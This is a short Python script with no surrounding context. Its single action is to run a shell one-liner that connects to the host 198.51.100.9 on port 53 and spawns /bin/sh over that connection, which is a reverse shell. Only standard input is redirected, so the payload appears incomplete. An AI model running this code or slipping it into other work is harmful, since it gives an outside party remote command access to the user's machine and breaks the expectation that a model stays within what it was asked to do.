#!/usr/bin/env python3
import os
os.system("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.9\",53));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'")
